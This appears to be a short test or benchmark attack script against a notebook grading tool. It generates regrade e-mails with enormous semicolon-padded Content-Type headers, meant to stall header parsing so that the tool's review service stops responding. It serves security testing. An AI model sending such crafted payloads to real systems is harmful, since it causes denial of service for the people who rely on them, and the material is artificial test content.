"""E-mails that ask for a regrade have headers that take hours to parse.

Success: `nbjudge review` does not serve the graders.
"""

REQUEST = "Assignment: ps1\nNotebook: ps1\nQuestion: essay\nStudent: x\nReason: please\n"


def attack(submission):
    for number, header in enumerate((";" * 64_000, "; a=b" * 20_000, ";\n a*0=b" * 20_000)):
        mail = f"From: a@b.c\nContent-Type: text/plain{header}\n\n{REQUEST}"
        submission.mail(f"{submission.student}-{number}.eml", mail)
